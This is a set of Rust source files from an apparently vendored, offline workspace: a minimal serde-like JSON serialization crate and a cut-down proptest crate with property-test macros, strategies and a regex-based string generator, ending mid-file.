//! simplified traits with serde_json's standard data conventions:
//! structs → objects, newtype structs → their inner value, tuple structs →
//! arrays, unit enum variants → strings, data-carrying variants →
//! single-key objects.

#![forbid(unsafe_code)]

pub use serde_derive::{Deserialize, Serialize};

pub mod value;

use value::{Number, Value};

/// A type serializable to a JSON value tree.
pub trait Serialize {
    fn to_json_value(&self) -> Value;
}

/// Marker for types the real serde could deserialize. The workspace never
/// deserializes (no `from_str`/`from_value` call sites), so this carries
/// no behavior; the derive emits an empty impl to keep
/// `#[derive(Deserialize)]` lines compiling.
pub trait Deserialize {}

// ---- primitive impls ----------------------------------------------------

macro_rules! ser_uint {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json_value(&self) -> Value {
                Value::Number(Number::U(*self as u64))
            }
        }
        impl Deserialize for $t {}
    )*};
}

macro_rules! ser_int {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json_value(&self) -> Value {
                Value::Number(Number::I(*self as i64))
            }
        }
        impl Deserialize for $t {}
    )*};
}

ser_uint!(u8, u16, u32, u64, usize);
ser_int!(i8, i16, i32, i64, isize);

impl Serialize for f64 {
    fn to_json_value(&self) -> Value {
        Value::Number(Number::F(*self))
    }
}
impl Deserialize for f64 {}

impl Serialize for f32 {
    fn to_json_value(&self) -> Value {
        Value::Number(Number::F(*self as f64))
    }
}
impl Deserialize for f32 {}

impl Serialize for bool {
    fn to_json_value(&self) -> Value {
        Value::Bool(*self)
    }
}
impl Deserialize for bool {}

impl Serialize for String {
    fn to_json_value(&self) -> Value {
        Value::String(self.clone())
    }
}
impl Deserialize for String {}

impl Serialize for str {
    fn to_json_value(&self) -> Value {
        Value::String(self.to_string())
    }
}

impl Serialize for char {
    fn to_json_value(&self) -> Value {
        Value::String(self.to_string())
    }
}
impl Deserialize for char {}

// ---- composite impls ----------------------------------------------------

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_json_value(&self) -> Value {
        (**self).to_json_value()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_json_value(&self) -> Value {
        (**self).to_json_value()
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_json_value(&self) -> Value {
        match self {
            Some(v) => v.to_json_value(),
            None => Value::Null,
        }
    }
}
impl<T: Deserialize> Deserialize for Option<T> {}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T: Deserialize> Deserialize for Vec<T> {}

impl<T: Serialize> Serialize for [T] {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T: Deserialize, const N: usize> Deserialize for [T; N] {}

macro_rules! ser_tuple {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn to_json_value(&self) -> Value {
                Value::Array(vec![$(self.$idx.to_json_value()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {}
    )*};
}

ser_tuple! {
    (A: 0)
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
}

/// Maps serialize as objects; keys must render as plain strings.
pub trait SerializeMapKey {
    fn as_key(&self) -> String;
}

impl SerializeMapKey for String {
    fn as_key(&self) -> String {
        self.clone()
    }
}

impl SerializeMapKey for &str {
    fn as_key(&self) -> String {
        (*self).to_string()
    }
}

macro_rules! key_display {
    ($($t:ty),*) => {$(
        impl SerializeMapKey for $t {
            fn as_key(&self) -> String {
                self.to_string()
            }
        }
    )*};
}

key_display!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool, char);

impl<K: SerializeMapKey, V: Serialize> Serialize for std::collections::BTreeMap<K, V> {
    fn to_json_value(&self) -> Value {
        Value::Object(self.iter().map(|(k, v)| (k.as_key(), v.to_json_value())).collect())
    }
}
impl<K, V: Deserialize> Deserialize for std::collections::BTreeMap<K, V> {}

impl<K: SerializeMapKey, V: Serialize> Serialize for std::collections::HashMap<K, V> {
    fn to_json_value(&self) -> Value {
        // Deterministic output: sort keys.
        let mut entries: Vec<(String, Value)> =
            self.iter().map(|(k, v)| (k.as_key(), v.to_json_value())).collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Value::Object(entries)
    }
}
impl<K, V: Deserialize> Deserialize for std::collections::HashMap<K, V> {}

impl<T: Serialize> Serialize for std::collections::BTreeSet<T> {
    fn to_json_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json_value).collect())
    }
}
impl<T> Deserialize for std::collections::BTreeSet<T> {}

impl Serialize for Value {
    fn to_json_value(&self) -> Value {
        self.clone()
    }
}
impl Deserialize for Value {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives() {
        assert_eq!(1u64.to_json_value().render_compact(), "1");
        assert_eq!((-3i64).to_json_value().render_compact(), "-3");
        assert_eq!(true.to_json_value().render_compact(), "true");
        assert_eq!("x\"y".to_json_value().render_compact(), "\"x\\\"y\"");
        assert_eq!(1.5f64.to_json_value().render_compact(), "1.5");
    }

    #[test]
    fn composites() {
        assert_eq!(vec![1u64, 2].to_json_value().render_compact(), "[1,2]");
        assert_eq!(None::<u64>.to_json_value().render_compact(), "null");
        assert_eq!(Some(5u64).to_json_value().render_compact(), "5");
        assert_eq!((1u64, "a").to_json_value().render_compact(), "[1,\"a\"]");
    }
}
