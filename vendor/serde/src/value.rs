//! Owned JSON value tree with serde_json-compatible rendering.

use std::fmt;

/// A JSON number: unsigned, signed, or floating point.
#[derive(Debug, Clone, PartialEq)]
pub enum Number {
    U(u64),
    I(i64),
    F(f64),
}

impl fmt::Display for Number {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Number::U(v) => write!(f, "{v}"),
            Number::I(v) => write!(f, "{v}"),
            Number::F(v) => {
                if v.is_finite() {
                    // serde_json always renders a fractional/exponent part
                    // for floats so they round-trip as floats.
                    if v.fract() == 0.0 && v.abs() < 1e15 {
                        write!(f, "{v:.1}")
                    } else {
                        write!(f, "{v}")
                    }
                } else {
                    // serde_json renders non-finite floats as null.
                    write!(f, "null")
                }
            }
        }
    }
}

/// An owned JSON document. Objects preserve insertion order.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Number(Number),
    String(String),
    Array(Vec<Value>),
    Object(Vec<(String, Value)>),
}

impl Value {
    /// Render with two-space indentation (serde_json `to_string_pretty`
    /// conventions).
    pub fn render_pretty(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, Some(0));
        out
    }

    /// Render with no whitespace (serde_json `to_string` conventions).
    pub fn render_compact(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, None);
        out
    }

    fn write(&self, out: &mut String, indent: Option<usize>) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Value::Number(n) => out.push_str(&n.to_string()),
            Value::String(s) => write_json_string(out, s),
            Value::Array(items) => {
                if items.is_empty() {
                    out.push_str("[]");
                    return;
                }
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    newline_indent(out, indent.map(|d| d + 1));
                    item.write(out, indent.map(|d| d + 1));
                }
                newline_indent(out, indent);
                out.push(']');
            }
            Value::Object(entries) => {
                if entries.is_empty() {
                    out.push_str("{}");
                    return;
                }
                out.push('{');
                for (i, (key, value)) in entries.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    newline_indent(out, indent.map(|d| d + 1));
                    write_json_string(out, key);
                    out.push(':');
                    if indent.is_some() {
                        out.push(' ');
                    }
                    value.write(out, indent.map(|d| d + 1));
                }
                newline_indent(out, indent);
                out.push('}');
            }
        }
    }
}

fn newline_indent(out: &mut String, depth: Option<usize>) {
    if let Some(depth) = depth {
        out.push('\n');
        for _ in 0..depth {
            out.push_str("  ");
        }
    }
}

fn write_json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render_compact())
    }
}

impl From<u64> for Value {
    fn from(v: u64) -> Value {
        Value::Number(Number::U(v))
    }
}

impl From<usize> for Value {
    fn from(v: usize) -> Value {
        Value::Number(Number::U(v as u64))
    }
}

impl From<u32> for Value {
    fn from(v: u32) -> Value {
        Value::Number(Number::U(v as u64))
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Value {
        Value::Number(Number::I(v))
    }
}

impl From<i32> for Value {
    fn from(v: i32) -> Value {
        Value::Number(Number::I(v as i64))
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::Number(Number::F(v))
    }
}

impl From<bool> for Value {
    fn from(v: bool) -> Value {
        Value::Bool(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::String(v.to_string())
    }
}

impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::String(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pretty_matches_serde_json_conventions() {
        let v = Value::Object(vec![
            ("a".into(), Value::from(1u64)),
            (
                "b".into(),
                Value::Array(vec![Value::from(true), Value::Null]),
            ),
        ]);
        assert_eq!(
            v.render_pretty(),
            "{\n  \"a\": 1,\n  \"b\": [\n    true,\n    null\n  ]\n}"
        );
    }

    #[test]
    fn floats_keep_a_fraction() {
        assert_eq!(Value::from(2.0f64).render_compact(), "2.0");
        assert_eq!(Value::from(2.5f64).render_compact(), "2.5");
    }

    #[test]
    fn strings_escape() {
        assert_eq!(
            Value::from("a\"b\\c\nd").render_compact(),
            "\"a\\\"b\\\\c\\nd\""
        );
    }
}
