//! Collection strategies (`prop::collection::vec`).

use std::ops::Range;

use rand::rngs::StdRng;
use rand::Rng;

use crate::strategy::Strategy;

pub struct VecStrategy<S> {
    element: S,
    size: Range<usize>,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn generate(&self, rng: &mut StdRng) -> Vec<S::Value> {
        let len = if self.size.is_empty() {
            self.size.start
        } else {
            rng.gen_range(self.size.clone())
        };
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}

/// A vector of `size.start..size.end` (exclusive) elements drawn from
/// `element`.
pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
    VecStrategy { element, size }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn lengths_in_range() {
        let mut rng = StdRng::seed_from_u64(5);
        let s = vec(0u64..10, 2..6);
        for _ in 0..100 {
            let v = s.generate(&mut rng);
            assert!((2..6).contains(&v.len()));
            assert!(v.iter().all(|x| *x < 10));
        }
    }
}
