//! Offline-compatible subset of the `proptest` API.
//!
//! Differences from upstream proptest, deliberate for this offline build:
//! - no shrinking — a failing case reports its inputs and case number;
//! - cases are generated from a deterministic per-test seed, so failures
//!   reproduce exactly across runs;
//! - the regex string-strategy implements the subset of regex syntax the
//!   workspace actually uses (literals, escapes, `\PC`, char classes with
//!   ranges / negation / `&&` intersection, groups, alternation and
//!   `{m,n}` / `?` / `*` / `+` repetition).

#![forbid(unsafe_code)]

pub mod collection;
pub mod regex;
pub mod strategy;
pub mod test_runner;

/// `prop::` namespace as re-exported by the prelude.
pub mod prop {
    pub use crate::collection;
}

pub mod prelude {
    pub use crate::prop;
    pub use crate::strategy::{any, Arbitrary, BoxedStrategy, Strategy, Union};
    pub use crate::test_runner::{ProptestConfig, TestCaseError};
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest,
    };
}

#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!{ ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!{ ($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

#[macro_export]
#[doc(hidden)]
macro_rules! __proptest_impl {
    (($cfg:expr) $( $(#[$meta:meta])* fn $name:ident( $($arg:ident in $strat:expr),* $(,)? ) $body:block )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __cfg: $crate::test_runner::ProptestConfig = $cfg;
                let mut __case: u64 = 0;
                let mut __accepted: u32 = 0;
                let mut __rejected: u32 = 0;
                while __accepted < __cfg.cases {
                    assert!(
                        __rejected < __cfg.cases.saturating_mul(16).max(1024),
                        "proptest: too many prop_assume! rejections in {}",
                        stringify!($name),
                    );
                    let mut __rng = $crate::test_runner::case_rng(stringify!($name), __case);
                    __case += 1;
                    $(
                        let $arg = $crate::strategy::Strategy::generate(&($strat), &mut __rng);
                    )*
                    let __outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| {
                            $body
                            Ok(())
                        })();
                    match __outcome {
                        Ok(()) => __accepted += 1,
                        Err($crate::test_runner::TestCaseError::Reject(_)) => __rejected += 1,
                        Err($crate::test_runner::TestCaseError::Fail(__msg)) => {
                            panic!(
                                "proptest case #{} of {} failed: {}",
                                __case - 1,
                                stringify!($name),
                                __msg,
                            );
                        }
                    }
                }
            }
        )*
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)+),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l == *__r,
            "assertion failed: `{:?}` != `{:?}`",
            __l,
            __r
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (__l, __r) = (&$left, &$right);
        if !(*__l == *__r) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!("`{:?}` != `{:?}`: {}", __l, __r, format!($($fmt)+)),
            ));
        }
    }};
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(*__l != *__r, "assertion failed: `{:?}` == `{:?}`", __l, __r);
    }};
}

#[macro_export]
macro_rules! prop_assume {
    ($cond:expr $(,)?) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject(
                concat!("assumption failed: ", stringify!($cond)).to_string(),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::BoxedStrategy::new($strat)),+
        ])
    };
}
