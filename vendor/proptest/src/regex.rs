//! Generation of strings matching a regex pattern — the subset of regex
//! syntax used by this workspace's string strategies: literals, `\`
//! escapes, `\PC` (any non-control char), character classes with ranges,
//! leading `^` negation and `&&` intersection (including a nested
//! `[^...]` class), groups, `|` alternation, and `{m}` / `{m,n}` / `?` /
//! `*` / `+` repetition.

use rand::rngs::StdRng;
use rand::Rng;

#[derive(Debug, Clone)]
struct ClassSegment {
    negated: bool,
    ranges: Vec<(char, char)>,
}

impl ClassSegment {
    fn contains(&self, c: char) -> bool {
        let inside = self.ranges.iter().any(|&(lo, hi)| (lo..=hi).contains(&c));
        inside != self.negated
    }
}

#[derive(Debug, Clone)]
enum Atom {
    Literal(char),
    /// `\PC`: any char that is not a control character.
    AnyNonControl,
    Class(Vec<ClassSegment>),
    Group(Vec<Vec<Piece>>),
}

#[derive(Debug, Clone)]
struct Piece {
    atom: Atom,
    min: u32,
    max: u32,
}

struct Parser<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    pattern: &'a str,
}

impl<'a> Parser<'a> {
    fn new(pattern: &'a str) -> Self {
        Parser {
            chars: pattern.chars().peekable(),
            pattern,
        }
    }

    fn fail(&self, what: &str) -> ! {
        panic!("proptest regex stub: {what} in pattern {:?}", self.pattern)
    }

    fn next_or(&mut self, what: &str) -> char {
        match self.chars.next() {
            Some(c) => c,
            None => self.fail(what),
        }
    }

    /// Parse alternation until `end` (None = end of input).
    fn parse_alternation(&mut self, end: Option<char>) -> Vec<Vec<Piece>> {
        let mut branches = Vec::new();
        let mut current = Vec::new();
        loop {
            match self.chars.peek().copied() {
                None => {
                    if end.is_some() {
                        self.fail("unterminated group");
                    }
                    branches.push(current);
                    return branches;
                }
                Some(c) if Some(c) == end => {
                    self.chars.next();
                    branches.push(current);
                    return branches;
                }
                Some('|') => {
                    self.chars.next();
                    branches.push(std::mem::take(&mut current));
                }
                Some(_) => {
                    let atom = self.parse_atom();
                    let (min, max) = self.parse_quantifier();
                    current.push(Piece { atom, min, max });
                }
            }
        }
    }

    fn parse_atom(&mut self) -> Atom {
        match self.next_or("expected atom") {
            '\\' => match self.next_or("dangling escape") {
                'P' => {
                    // Only the `\PC` (non-control) category is supported.
                    match self.next_or("dangling \\P") {
                        'C' => Atom::AnyNonControl,
                        other => self.fail(&format!("unsupported category \\P{other}")),
                    }
                }
                c => Atom::Literal(c),
            },
            '(' => Atom::Group(self.parse_alternation(Some(')'))),
            '[' => Atom::Class(self.parse_class()),
            '.' => Atom::AnyNonControl,
            c => Atom::Literal(c),
        }
    }

    /// Parse the inside of `[...]` (the `[` is already consumed).
    fn parse_class(&mut self) -> Vec<ClassSegment> {
        let mut segments = vec![self.parse_class_segment(false)];
        loop {
            match self.chars.peek().copied() {
                Some(']') => {
                    self.chars.next();
                    return segments;
                }
                Some('&') => {
                    self.chars.next();
                    match self.chars.next() {
                        Some('&') => {}
                        _ => self.fail("single & in class"),
                    }
                    if self.chars.peek() == Some(&'[') {
                        self.chars.next();
                        let nested = self.parse_class();
                        if nested.len() != 1 {
                            self.fail("nested intersection too deep");
                        }
                        segments.extend(nested);
                    } else {
                        segments.push(self.parse_class_segment(true));
                    }
                }
                _ => self.fail("unterminated class"),
            }
        }
    }

    /// Parse one class segment: ranges and literals until `]` or `&&`.
    /// When `stop_before_bracket` the terminating `]`/`&&` is left for the
    /// caller; otherwise the same.
    fn parse_class_segment(&mut self, _inner: bool) -> ClassSegment {
        let negated = if self.chars.peek() == Some(&'^') {
            self.chars.next();
            true
        } else {
            false
        };
        let mut ranges: Vec<(char, char)> = Vec::new();
        loop {
            let c = match self.chars.peek().copied() {
                None => self.fail("unterminated class"),
                Some(']') => break,
                Some('&') => {
                    // Lookahead for `&&` (intersection); a single `&` is a
                    // literal member.
                    let mut ahead = self.chars.clone();
                    ahead.next();
                    if ahead.peek() == Some(&'&') {
                        break;
                    }
                    self.chars.next();
                    '&'
                }
                Some('\\') => {
                    self.chars.next();
                    self.next_or("dangling escape in class")
                }
                Some(other) => {
                    self.chars.next();
                    other
                }
            };
            // Range `a-z` if a `-` follows and is itself followed by a
            // non-`]` char; trailing `-` is a literal.
            if self.chars.peek() == Some(&'-') {
                let mut ahead = self.chars.clone();
                ahead.next();
                match ahead.peek() {
                    Some(&']') | None => {
                        ranges.push((c, c));
                    }
                    Some(_) => {
                        self.chars.next();
                        let hi = match self.chars.next() {
                            Some('\\') => self.next_or("dangling escape in class"),
                            Some(h) => h,
                            None => self.fail("unterminated range"),
                        };
                        ranges.push((c, hi));
                    }
                }
            } else {
                ranges.push((c, c));
            }
        }
        ClassSegment { negated, ranges }
    }

    fn parse_quantifier(&mut self) -> (u32, u32) {
        match self.chars.peek().copied() {
            Some('{') => {
                self.chars.next();
                let mut min_digits = String::new();
                while matches!(self.chars.peek(), Some(c) if c.is_ascii_digit()) {
                    min_digits.push(self.chars.next().unwrap());
                }
                let min: u32 = min_digits.parse().unwrap_or_else(|_| self.fail("bad {m}"));
                let max = match self.chars.next() {
                    Some('}') => min,
                    Some(',') => {
                        let mut max_digits = String::new();
                        while matches!(self.chars.peek(), Some(c) if c.is_ascii_digit()) {
                            max_digits.push(self.chars.next().unwrap());
                        }
                        match self.chars.next() {
                            Some('}') => {}
                            _ => self.fail("unterminated {m,n}"),
                        }
                        if max_digits.is_empty() {
                            min + 8
                        } else {
                            max_digits
                                .parse()
                                .unwrap_or_else(|_| self.fail("bad {m,n}"))
                        }
                    }
                    _ => self.fail("unterminated quantifier"),
                };
                (min, max)
            }
            Some('?') => {
                self.chars.next();
                (0, 1)
            }
            Some('*') => {
                self.chars.next();
                (0, 8)
            }
            Some('+') => {
                self.chars.next();
                (1, 8)
            }
            _ => (1, 1),
        }
    }
}

/// Pool for `\PC`: printable ASCII plus a few multi-byte chars, so
/// parser fuzz tests see non-ASCII input without control characters.
const UNICODE_EXTRAS: &[char] = &['\u{a9}', 'é', 'ß', 'λ', '中', '\u{2014}', '🦀'];

fn gen_non_control(rng: &mut StdRng) -> char {
    if rng.gen_range(0u32..12) == 0 {
        UNICODE_EXTRAS[rng.gen_range(0..UNICODE_EXTRAS.len())]
    } else {
        char::from_u32(rng.gen_range(0x20u32..0x7f)).expect("printable ascii")
    }
}

fn gen_class(segments: &[ClassSegment], rng: &mut StdRng, pattern: &str) -> char {
    let candidates: Vec<char> = if !segments[0].negated {
        segments[0]
            .ranges
            .iter()
            .flat_map(|&(lo, hi)| lo..=hi)
            .filter(|&c| segments[1..].iter().all(|s| s.contains(c)))
            .collect()
    } else {
        // Negated leading segment: draw from printable ASCII.
        (0x20u32..0x7f)
            .filter_map(char::from_u32)
            .filter(|&c| segments.iter().all(|s| s.contains(c)))
            .collect()
    };
    assert!(
        !candidates.is_empty(),
        "proptest regex stub: empty class in {pattern:?}"
    );
    candidates[rng.gen_range(0..candidates.len())]
}

fn gen_seq(seq: &[Piece], rng: &mut StdRng, out: &mut String, pattern: &str) {
    for piece in seq {
        let count = if piece.min == piece.max {
            piece.min
        } else {
            rng.gen_range(piece.min..=piece.max)
        };
        for _ in 0..count {
            match &piece.atom {
                Atom::Literal(c) => out.push(*c),
                Atom::AnyNonControl => out.push(gen_non_control(rng)),
                Atom::Class(segments) => out.push(gen_class(segments, rng, pattern)),
                Atom::Group(branches) => {
                    let branch = &branches[rng.gen_range(0..branches.len())];
                    gen_seq(branch, rng, out, pattern);
                }
            }
        }
    }
}

/// Generate a string matching `pattern`.
pub fn generate_matching(pattern: &str, rng: &mut StdRng) -> String {
    let mut parser = Parser::new(pattern);
    let branches = parser.parse_alternation(None);
    let branch = &branches[rng.gen_range(0..branches.len())];
    let mut out = String::new();
    gen_seq(branch, rng, &mut out, pattern);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn sample(pattern: &str, seed: u64) -> String {
        let mut rng = StdRng::seed_from_u64(seed);
        generate_matching(pattern, &mut rng)
    }

    #[test]
    fn literals_pass_through() {
        assert_eq!(
            sample("<div id=\"x\" class=\"a b\"><p>t</p></div>", 1),
            "<div id=\"x\" class=\"a b\"><p>t</p></div>"
        );
    }

    #[test]
    fn classes_and_ranges() {
        for seed in 0..200 {
            let s = sample("[a-z][a-z0-9-]{0,10}(\\.[a-z]{2,5}){1,2}", seed);
            let first = s.chars().next().unwrap();
            assert!(first.is_ascii_lowercase(), "{s}");
            assert!(s.contains('.'), "{s}");
        }
    }

    #[test]
    fn intersection_excludes() {
        for seed in 0..300 {
            let s = sample("[ -~&&[^#&=%+]]{0,12}", seed);
            assert!(
                s.chars()
                    .all(|c| (' '..='~').contains(&c) && !"#&=%+".contains(c)),
                "{s:?}"
            );
        }
    }

    #[test]
    fn non_control_category() {
        for seed in 0..100 {
            let s = sample("\\PC{0,60}", seed);
            assert!(s.chars().all(|c| !c.is_control()), "{s:?}");
            assert!(s.chars().count() <= 60);
        }
    }

    #[test]
    fn quantifier_bounds() {
        for seed in 0..100 {
            let s = sample("[a-z]{2,5}", seed);
            assert!((2..=5).contains(&s.len()), "{s:?}");
        }
    }

    #[test]
    fn trailing_dash_is_literal() {
        for seed in 0..100 {
            let s = sample("[a-zA-Z0-9_.-]{1,8}", seed);
            assert!(
                s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c)),
                "{s:?}"
            );
        }
    }

    #[test]
    fn alternation_and_escaped_quote() {
        let mut seen = std::collections::BTreeSet::new();
        for seed in 0..50 {
            seen.insert(sample("a|b", seed));
        }
        assert_eq!(seen.len(), 2);
        for seed in 0..100 {
            let s = sample("[ -~&&[^\"]]{0,10}", seed);
            assert!(!s.contains('"'), "{s:?}");
        }
    }
}
