//! The `Strategy` trait and combinators.

use std::ops::{Range, RangeInclusive};
use std::rc::Rc;

use rand::rngs::StdRng;
use rand::Rng;

/// A generator of values for property tests. Unlike upstream proptest
/// there is no value tree / shrinking; a strategy just produces values.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut StdRng) -> Self::Value;

    fn prop_map<U, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> U,
    {
        Map { inner: self, f }
    }

    /// Unrolls the recursion `depth` times: level 0 is `self`, level k+1
    /// is `recurse(level k)`. `desired_size` / `expected_branch_size` are
    /// accepted for API compatibility; collection sub-strategies already
    /// bound the fan-out.
    fn prop_recursive<R, F>(
        self,
        depth: u32,
        _desired_size: u32,
        _expected_branch_size: u32,
        recurse: F,
    ) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
        R: Strategy<Value = Self::Value> + 'static,
        F: Fn(BoxedStrategy<Self::Value>) -> R,
    {
        let mut strat = BoxedStrategy::new(self);
        for _ in 0..depth {
            strat = BoxedStrategy::new(recurse(strat.clone()));
        }
        strat
    }

    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        BoxedStrategy::new(self)
    }
}

/// A reference-counted type-erased strategy (clonable).
pub struct BoxedStrategy<T> {
    inner: Rc<dyn Strategy<Value = T>>,
}

impl<T> BoxedStrategy<T> {
    pub fn new<S: Strategy<Value = T> + 'static>(strategy: S) -> Self {
        BoxedStrategy {
            inner: Rc::new(strategy),
        }
    }
}

impl<T> Clone for BoxedStrategy<T> {
    fn clone(&self) -> Self {
        BoxedStrategy {
            inner: Rc::clone(&self.inner),
        }
    }
}

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        self.inner.generate(rng)
    }
}

pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, F, U> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> U,
{
    type Value = U;

    fn generate(&self, rng: &mut StdRng) -> U {
        (self.f)(self.inner.generate(rng))
    }
}

/// `prop_oneof!` support: uniform choice over same-valued strategies.
pub struct Union<T> {
    options: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    pub fn new(options: Vec<BoxedStrategy<T>>) -> Self {
        assert!(!options.is_empty(), "prop_oneof! needs at least one option");
        Union { options }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        let idx = rng.gen_range(0..self.options.len());
        self.options[idx].generate(rng)
    }
}

/// Always produces a clone of the given value (`Just` in upstream).
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;

    fn generate(&self, _rng: &mut StdRng) -> T {
        self.0.clone()
    }
}

// ---- ranges -------------------------------------------------------------

macro_rules! int_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}

int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f32, f64);

// ---- any ---------------------------------------------------------------

/// Types with a natural full-domain strategy.
pub trait Arbitrary: Sized {
    fn arbitrary(rng: &mut StdRng) -> Self;
}

macro_rules! arbitrary_uint {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> Self {
                // Mix full-range values with small ones and the extremes:
                // boundary-heavy inputs find more bugs than uniform noise.
                match rng.gen_range(0u32..8) {
                    0 => 0,
                    1 => <$t>::MAX,
                    2 | 3 => (rng.gen::<u64>() % 100) as $t,
                    _ => rng.gen::<u64>() as $t,
                }
            }
        }
    )*};
}

arbitrary_uint!(u8, u16, u32, u64, usize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut StdRng) -> Self {
        rng.gen::<u64>() & 1 == 1
    }
}

impl Arbitrary for i64 {
    fn arbitrary(rng: &mut StdRng) -> Self {
        u64::arbitrary(rng) as i64
    }
}

pub struct Any<T> {
    _marker: std::marker::PhantomData<T>,
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        T::arbitrary(rng)
    }
}

pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: std::marker::PhantomData,
    }
}

// ---- regex string strategies -------------------------------------------

impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut StdRng) -> String {
        crate::regex::generate_matching(self, rng)
    }
}

impl Strategy for String {
    type Value = String;

